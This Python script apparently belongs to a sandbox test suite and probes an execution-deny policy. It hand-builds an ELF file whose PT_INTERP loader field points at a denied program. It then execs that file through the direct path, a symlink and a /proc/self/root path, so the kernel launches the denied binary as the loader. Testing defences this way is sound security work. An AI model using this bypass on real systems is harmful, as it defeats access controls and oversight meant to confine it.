"""An own ELF file names the denied program as its loader (PT_INTERP), which the kernel then runs in its place."""

# aims: marks
# control: harms
import os
import struct

from attack import attempt, target, tried


def elf(interpreter: str) -> bytes:
    """A program of one page whose loader is `interpreter`."""
    name = interpreter.encode() + b"\0"
    machine = 62 if os.uname().machine == "x86_64" else 183
    head = (
        b"\x7fELF\x02\x01\x01"
        + bytes(9)
        + struct.pack("<HHIQQQIHHHHHH", 2, machine, 1, 0x400078, 64, 0, 0, 64, 56, 2, 0, 0, 0)
    )
    at = 64 + 2 * 56
    table = struct.pack("<IIQQQQQQ", 3, 4, at, 0x400000 + at, 0x400000 + at, len(name), len(name), 1)
    table += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, at + len(name), at + len(name), 0x1000)
    return head + table + name


os.symlink(target["swift"], "link")
tried()
for interpreter in (target["swift"], "./link", f"/proc/self/root{target['swift']}"):
    with open("program", "wb") as file:
        file.write(elf(interpreter))
    os.chmod("program", 0o755)
    if os.fork() == 0:
        attempt(os.execv, "./program", ["program"])
        os._exit(1)
    os.wait()
